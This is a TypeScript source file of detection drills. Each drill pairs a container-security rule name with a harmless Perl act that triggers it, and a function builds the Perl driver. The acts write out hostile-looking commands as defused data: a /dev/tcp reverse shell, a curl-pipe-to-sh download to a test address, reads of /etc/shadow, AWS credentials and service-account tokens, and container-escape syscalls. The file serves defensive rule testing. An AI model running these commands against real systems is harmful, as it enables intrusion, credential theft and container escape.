/**
 * What a drill does, by the shipped rule that must see it. Every act happens in a container made for it, without network,
 * capabilities or mounts: it reads and changes files of that container only, speaks to addresses that belong to nobody (RFC
 * 5737), and asks the kernel for things that it refuses such a container. Programs with the names of tools are /bin/true.
 *
 * The lines are Perl, because every Debian has it; `call` makes a system call by its name, `run` starts a program.
 */
export interface Act {
  readonly rule: string;
  /** Performed by a terminal that the engine opens. */
  readonly terminal?: true;
  readonly perl?: string;
  /** Files that the act needs in its container. */
  readonly files?: readonly string[];
  /** Programs that are /bin/true by another name. */
  readonly programs?: readonly string[];
  /** Calls that a kernel may have been built without: then there is nothing to see. */
  readonly calls?: readonly string[];
}

const SHELL = "'/bin/sh', '-c'";
/** What the interpreter does under the name of a shell, and of a download program. */
const JOINS = 'socket(my $s, 2, 1, 6); open(STDIN, q(<&), $s); open(STDOUT, q(>&), $s)';
const CONNECTS = 'socket(my $s, 2, 2, 17); connect($s, pack(q(S n C4 x8), 2, 9, 192, 0, 2, 1))';

export const ACTS: readonly Act[] = [
  { rule: 'Terminal opened in a container', terminal: true },
  { rule: 'Password file read in a container', perl: "look '/etc/shadow'", files: ['/etc/shadow'] },
  { rule: 'Program not in the image executed', perl: "copy '/bin/true', '/tmp/brought'; run '/tmp/brought'" },
  { rule: 'Program executed from memory', perl: 'from_memory()' },
  { rule: 'Program executed from shared memory', perl: "chdir '/dev/shm'; run '/bin/true'" },
  { rule: 'Package manager run in a container', perl: "run '/usr/bin/apt'", programs: ['/usr/bin/apt'] },
  { rule: 'Kernel control file written from a container', perl: "touch '/proc/sys/kernel/core_pattern'" },
  { rule: 'Memory of the host opened from a container', perl: "look '/dev/mem'" },
  { rule: 'Container engine addressed from a container', perl: "reach_path '/run/docker.sock'" },
  { rule: 'Cloud metadata service contacted from a container', perl: 'reach 169, 254, 169, 254, 80' },
  { rule: 'Shell turned over to the network', perl: `run ${SHELL}, ': "sh -i >& /dev/tcp/192.0.2.1/9 0>&1"'` },
  { rule: 'Shell without a terminal waits for orders', perl: "open(STDIN, '<', '/dev/null'); run '/bin/sh', '-i'" },
  { rule: 'Crypto miner started', perl: "run '/usr/bin/xmrig'", programs: ['/usr/bin/xmrig'] },
  { rule: 'Start-up file changed in a container', perl: "mkdir '/etc/profile.d'; make '/etc/profile.d/drill.sh'" },
  {
    rule: 'Service account token read by a tool',
    perl: `run ${SHELL}, 'read x < /drill/secrets/kubernetes.io/serviceaccount/token'`,
    files: ['/drill/secrets/kubernetes.io/serviceaccount/token'],
  },
  { rule: 'Shell started by a server', perl: `run '/usr/sbin/nginx', '-e', 'system("/bin/sh", "-c", "true")'` },
  { rule: 'Attack tool started in a container', perl: "run '/usr/bin/nmap'", programs: ['/usr/bin/nmap'] },
  {
    rule: 'Credentials read by a foreign program',
    perl: `run ${SHELL}, 'read x < /root/.aws/credentials'`,
    files: ['/root/.aws/credentials'],
  },
  {
    rule: 'Secret file given another name',
    perl: "symlink '/etc/shadow', '/tmp/other-name'",
  },
  {
    rule: 'Keys or passwords searched for',
    perl: "run '/usr/bin/find', '/', '-name', 'id_rsa'",
    programs: ['/usr/bin/find'],
  },
  { rule: 'Environment of another process read', perl: 'my $other = getppid; look "/proc/$other/environ"' },
  { rule: 'Accounts of a container changed', perl: "make '/etc/passwd'", files: ['/etc/passwd'] },
  { rule: 'Download run at once', perl: `run ${SHELL}, ': "curl http://192.0.2.1/x | sh"'` },
  { rule: 'Namespace made or entered in a container', perl: "call 'unshare', 0x10000000" },
  { rule: 'File system mounted in a container', perl: "call 'mount', 'none', '/tmp', 'tmpfs', 0, 0" },
  {
    rule: 'Kernel code loaded from a container',
    perl: "call 'init_module', 0, 0, ''; call 'finit_module', -1, '', 0; call 'kexec_load', 0, 0, 0, 0",
    calls: ['init_module', 'finit_module', 'kexec_load'],
  },
  { rule: 'File of the host opened by its handle', perl: "call 'open_by_handle_at', 0, 0, 0" },
  { rule: 'Process taken over in a container', perl: "call 'ptrace', 16, 99999999, 0, 0" },
  { rule: 'BPF used from a container', perl: "call 'bpf', 5, 0, 0" },
  { rule: 'Rare kernel interface used from a container', perl: "call 'userfaultfd', 0" },
  { rule: 'Rare socket opened from a container', perl: 'socket(my $s, 17, 3, 0)' },
  { rule: 'Setuid or setgid bit set in a container', perl: "make '/tmp/bits'; chmod 04755, '/tmp/bits'" },
  { rule: 'Network connection became the terminal of a program', perl: 'over_network()' },
  { rule: 'Device node made in a container', perl: "call 'mknodat', -100, '/tmp/node', 0020666, 0x103" },
  { rule: 'Disk of the host opened from a container', perl: "look '/dev/vda'" },
  { rule: 'Kernel setting written from a container', perl: "touch '/proc/sys/net/ipv4/ip_forward'" },
  { rule: 'Control group written from a container', perl: "touch '/sys/fs/cgroup/cgroup.procs'" },
  { rule: 'Memory of another process opened in a container', perl: "look '/proc/1/mem'" },
  { rule: 'Root folder changed in a container', perl: "call 'chroot', '/proc/1/root'" },
  { rule: 'Whole machine addressed from a container', perl: "call 'swapon', '/nothing', 0" },
  {
    rule: 'Program started through its loader',
    perl: "run '/lib/ld-linux-drill', '/bin/true'",
    programs: ['/lib/ld-linux-drill'],
  },
  {
    rule: 'Surroundings explored in a container',
    perl: 'run "/usr/bin/$_" for qw(whoami id uname hostname ps)',
    programs: ['whoami', 'id', 'uname', 'hostname', 'ps'].map((name) => `/usr/bin/${name}`),
  },
  { rule: 'Network scanned from a container', perl: 'reach 192, 0, 2, $_, 9 for 1 .. 30' },
  {
    rule: 'Download handed to a shell',
    perl: `open(STDIN, '<', '/dev/null'); run '/bin/sh'; run '/usr/bin/curl', '-e', '${CONNECTS}'`,
  },
  { rule: 'Ports of a host scanned from a container', perl: 'reach_tcp 192, 0, 2, 1, $_ for 1 .. 30' },
  { rule: 'Connection joined to a shell', perl: `run '/bin/bash', '-e', '${JOINS}'` },
  {
    rule: 'Named pipe joined with a network program',
    perl: "run '/usr/bin/mkfifo', '/tmp/pipe'; run '/usr/bin/telnet', '192.0.2.1'",
    programs: ['/usr/bin/mkfifo', '/usr/bin/telnet'],
  },
  {
    rule: 'Login after many failed ones',
    perl: "make '/var/log/btmp' for 1 .. 6; make '/var/log/wtmp'",
    files: ['/var/log/btmp', '/var/log/wtmp'],
  },
];

/**
 * Performs the acts whose numbers are given; its other words are `name=number` of calls. Each act is a process of its own.
 * Nothing but the interpreter is in its container, so it uses no module.
 */
export function driverOf(acts: readonly Act[]): string {
  const subs = acts.map(({ perl }, index) => `  ${index} => sub { ${perl ?? ''} },`).join('\n');
  return `my %number = map { split /=/ } grep { /=/ } @ARGV;
sub call { my ($name, @words) = @_; exists $number{$name} ? syscall($number{$name}, @words) : -1 }
sub run { my @words = @_; my $pid = fork // return; if (!$pid) { exec { $words[0] } @words; exit 127 } waitpid $pid, 0 }
sub look { my $f; sysopen($f, $_[0], 0) and close $f }
sub touch { my $f; sysopen($f, $_[0], 1) and close $f }
sub make { my $f; open($f, '>>', $_[0]) and close $f }
sub bytes_of { open(my $f, '<:raw', $_[0]) or return ''; local $/; scalar <$f> }
sub copy { open(my $f, '>:raw', $_[1]) or return; print $f bytes_of($_[0]); close $f; chmod 0755, $_[1] }
sub reach {
  my ($a, $b, $c, $d, $port) = @_;
  socket(my $s, 2, 2, 17) or return;
  connect($s, pack('S n C4 x8', 2, $port, $a, $b, $c, $d));
}
sub reach_tcp {
  my ($a, $b, $c, $d, $port) = @_;
  socket(my $s, 2, 1, 6) or return;
  fcntl($s, 4, 2048);
  connect($s, pack('S n C4 x8', 2, $port, $a, $b, $c, $d));
}
sub reach_path { socket(my $s, 1, 1, 0) or return; connect($s, pack('S a*', 1, "$_[0]\\0")) }
sub from_memory {
  my $fd = call('memfd_create', 'drill', 0);
  return if $fd < 0;
  my $bytes = bytes_of('/bin/true');
  call('write', $fd, $bytes, length $bytes);
  run "/proc/self/fd/$fd";
}
sub over_network {
  socket(my $server, 2, 1, 6) or return;
  bind($server, pack('S n C4 x8', 2, 0, 127, 0, 0, 1)) and listen($server, 1) or return;
  socket(my $s, 2, 1, 6) or return;
  connect($s, getsockname $server) or return;
  open(STDIN, '<&', $s);
}
my %act = (
${subs}
);
$| = 1;
for my $index (grep { /^\\d+$/ } @ARGV) {
  my $pid = fork // die;
  if (!$pid) { $SIG{ALRM} = 'DEFAULT'; alarm 10; $act{$index}->(); exit 0 }
  waitpid $pid, 0;
  print "done $index $?\\n";
}
`;
}
